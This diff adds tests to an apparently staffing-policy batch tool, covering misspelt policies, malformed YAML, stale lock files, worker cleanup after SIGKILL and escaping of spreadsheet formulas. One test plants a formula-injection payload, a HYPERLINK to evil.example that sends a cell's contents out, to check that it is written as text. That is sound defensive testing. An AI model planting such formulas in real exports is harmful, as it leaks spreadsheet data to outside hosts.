@@ -199,3 +199,86 @@ def test_bundled_sample_is_the_generators_output():
 
     expected = pd.read_csv(io.StringIO(take_sample(generate_national()).to_csv(index=False)))
     pd.testing.assert_frame_equal(pd.read_csv(SAMPLE), expected)
+
+
+# ---------------------------------------------------------------- hostile and careless use
+
+
+def _cli(*args):
+    return CliRunner().invoke(app, ["batch", *map(str, args), "--no-progress"])
+
+
+def test_a_misspelt_policy_stops_before_running_with_a_suggestion(tmp_path):
+    result = _cli(SAMPLE, "--base", BASE, "--output", tmp_path / "out", "--policy", "uncap:enhanced_practice_nurs", "--workers", "1")
+    assert result.exit_code == 2, result.output
+    assert "'enhanced_practice_nurs' is not a role" in result.output and "did you mean 'uncap:enhanced_practice_nurse'" in result.output
+    assert not (tmp_path / "out" / "parts").exists()
+    typo = _cli(SAMPLE, "--base", BASE, "--output", tmp_path / "out", "--policy", "no-cap", "--workers", "1")
+    assert typo.exit_code == 2 and "Did you mean 'no-caps'?" in typo.output
+
+
+def test_the_base_is_read_by_the_scenario_loader(tmp_path):
+    twice = tmp_path / "base.yaml"
+    twice.write_text('year: "2025/26"\nyear: "2024/25"\n', encoding="utf-8")
+    result = _cli(SAMPLE, "--base", twice, "--output", tmp_path / "out", "--workers", "1")
+    assert result.exit_code == 2 and "'year' is given twice" in result.output
+    huge = tmp_path / "huge.yaml"
+    huge.write_text('year: "2025/26"\n' + "# padding\n" * 200_000, encoding="utf-8")
+    result = _cli(SAMPLE, "--base", huge, "--output", tmp_path / "out", "--workers", "1")
+    assert result.exit_code == 2 and "larger than" in result.output
+
+
+def test_a_second_batch_into_the_same_folder_is_refused_and_a_dead_ones_lock_is_taken_over(sample, base, tmp_path):
+    import json
+
+    import psutil
+
+    lock = tmp_path / ".batch.lock"
+    lock.write_text(json.dumps({"pid": os.getpid(), "started": psutil.Process().create_time(), "started_at": "2026-11-25T21:00:00+00:00"}))
+    with pytest.raises(TableError, match=rf"another batch \(process {os.getpid()}, started 2026-11-25T21:00:00\+00:00\) is writing to this folder"):
+        run_batch(sample.head(2), base, ["as-published"], tmp_path, workers=1, formats=("csv",))
+    lock.write_text(json.dumps({"pid": 2**22 + 12345, "started": 1.0}))  # no such process: its run died
+    (tmp_path / "parts").mkdir(exist_ok=True)
+    stale = [tmp_path / "parts" / ".summary-1.parquet.abc.part", tmp_path / ".pcn_summary.csv.xyz.part"]
+    for path in stale:
+        path.write_bytes(b"half a file")
+    outcome = run_batch(sample.head(2), base, ["as-published"], tmp_path, workers=1, formats=("csv",))
+    assert outcome.ran == 2 and not lock.exists()
+    assert not any(path.exists() for path in stale)
+
+
+def test_kill_9_of_a_batch_leaves_no_worker_processes(tmp_path):
+    import psutil
+
+    out = tmp_path / "out"
+    command = [sys.executable, "-m", "optimiser", "batch", str(SAMPLE), "--base", str(BASE), "--output", str(out),
+               "--policy", "as-published", "--policy", "no-caps", "--policy", "rooms+10%", "--workers", "2",
+               "--chunk-size", "1", "--no-progress"]
+    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=ROOT)
+    deadline = time.monotonic() + 60
+    children: list = []
+    while time.monotonic() < deadline and not (out / "parts").exists():
+        time.sleep(0.01)
+    while time.monotonic() < deadline and len(children) < 3:  # the forkserver and two workers
+        children = psutil.Process(process.pid).children(recursive=True)
+        time.sleep(0.01)
+    assert len(children) >= 3
+    os.kill(process.pid, signal.SIGKILL)
+    process.wait()
+    gone, alive = psutil.wait_procs(children, timeout=5)
+    assert alive == [], f"{len(alive)} worker processes outlived the batch"
+
+
+def test_formula_like_names_are_written_as_text(sample, base, tmp_path):
+    from openpyxl import load_workbook
+
+    table = sample.head(2).copy()
+    table.loc[0, "name"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    table.loc[1, "ods_code"] = "@SUM(1+1)"
+    run_batch(table, base, ["as-published"], tmp_path, workers=1)
+    text = (tmp_path / "pcn_summary.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
+    sheet = load_workbook(tmp_path / "results.xlsx")["pcn_summary"]
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
+    assert cells['=HYPERLINK("http://evil.example/?x="&A1,"click")'] == "s" and cells["@SUM(1+1)"] == "s"
+    assert pd.read_parquet(tmp_path / "pcn_summary.parquet")["pcn_name"].iloc[0].startswith("=HYPERLINK")  # data files keep the text
